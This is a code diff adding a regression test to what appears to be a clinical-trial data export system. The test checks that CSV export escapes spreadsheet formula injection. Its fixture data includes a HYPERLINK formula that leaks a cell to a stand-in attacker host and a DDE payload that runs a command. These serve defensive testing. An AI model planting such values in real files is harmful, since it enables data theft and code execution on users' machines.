@@ -163,3 +163,33 @@ def test_deleted_records_leave_the_export(center: Center, tmp_path: Path) -> Non
                                 "b").status == "accepted"
     paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
     assert not [r for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]
+
+
+def test_csv_cells_never_become_spreadsheet_formulas(center: Center, tmp_path: Path) -> None:
+    """Issue 15 item 8: an AE term typed at a site became a live formula in the centre's CSV."""
+    keys = KeyPair.generate("site", "03")
+    center.register_site("03", keys.public_document())
+    records = participant("p9", "03-0001", "randomized", "MSC")
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Fever")'
+    for table, _record_id, values in records:
+        if table == "adverse_event":
+            values["term"] = attack
+        if table == "item_value" and values["item"] == "bilirubin":
+            values["value"] = "-1.5"
+        if table == "infusion":
+            values["product_lot"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    rows: list[dict[str, Any]] = record_rows(records)
+    header = BundleHeader("03", "dev", 1, rows[-1]["seq"], GENESIS_HASH, rows[-1]["hash"],
+                          "2026-11-29T10:00:00Z", center.fingerprint, keys.public().fingerprint)
+    assert center.import_bundle(seal_bundle(header, rows, b"", keys, center.keys.public()),
+                                "b").status == "accepted"
+    paths = {path.stem: path for path in export_pooled(center, "csv", tmp_path / "out")}
+    terms = [r["AETERM"] for r in read(paths["AE"]) if r["USUBJID"].endswith("03-0001")]
+    assert terms == ["'" + attack]
+    lots = [r["EXLOT"] for r in read(paths["EX"]) if r["USUBJID"].endswith("03-0001")]
+    assert lots == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
+    results = [r["LBORRES"] for r in read(paths["LB"]) if r["USUBJID"].endswith("03-0001")]
+    assert results == ["-1.5"]
+    text = "".join(path.read_text(encoding="utf-8") for path in paths.values())
+    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",@" in line
+                   for line in text.splitlines())
